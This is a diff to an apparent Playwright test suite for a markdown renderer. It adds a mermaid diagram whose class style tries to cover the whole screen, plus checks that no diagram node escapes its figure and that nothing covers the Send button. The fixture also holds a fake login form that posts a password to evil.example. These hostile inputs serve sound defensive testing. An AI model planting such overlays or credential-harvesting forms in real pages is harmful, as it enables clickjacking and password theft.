@@ -53,7 +53,9 @@ DELTA_MD = "**Delta** thinks:\n\n" + "\n".join(f"- point {i}: some words here" f
 RICH_MD = (
     "| model | score |\n|---|---|\n| alpha | 0.91 |\n| beta-with-a-long-name | 0.87 |\n\n"
     "See [the docs](https://example.org/docs) and ![a chart](https://example.org/chart.png).\n\n"
-    "```mermaid\ngraph TD\n  A[question] --> B[answer]\n```\n\n"
+    "```mermaid\ngraph TD\n  A[question] --> B[answer]\n"
+    "  classDef cover position:fixed,top:0,left:0,width:100vw,height:100vh\n"
+    "  class B cover\n```\n\n"
     "```python\nprint('hi')\n```\n\n"
     '<form action="https://evil.example/steal"><input name="pw" placeholder="password">'
     "<button>Log in</button><textarea>t</textarea><select><option>o</option></select></form>\n\n"
@@ -884,6 +886,19 @@ async def test_markdown_tables_links_images_mermaid_code_and_no_forms(
             assert await md.locator("img").count() == 0
             assert "[image: a chart]" in await md.inner_text()
             await md.locator(".mermaid-figure svg").wait_for()
+            # Mermaid's own styles apply (edges drawn) but nothing escapes the figure.
+            figure = await md.locator(".mermaid-figure").bounding_box()
+            assert await md.locator(".mermaid-figure svg g.node").count() == 2
+            for node in await md.locator(".mermaid-figure svg g.node").all():
+                box = await node.bounding_box()
+                if box and box["width"] > 0:
+                    assert box["y"] >= figure["y"] - 1 and box["x"] >= figure["x"] - 1, box
+            send = await p.locator("#send").bounding_box()
+            hit = await p.evaluate(
+                "([x, y]) => document.elementFromPoint(x, y).id",
+                [send["x"] + send["width"] / 2, send["y"] + send["height"] / 2],
+            )
+            assert hit == "send", f"something covers the Send button: {hit!r}"
             code = md.locator(".code", has_text="print('hi')")
             await code.locator("button.copy-code").click()
             assert await p.evaluate("navigator.clipboard.readText()") == "print('hi')\n"
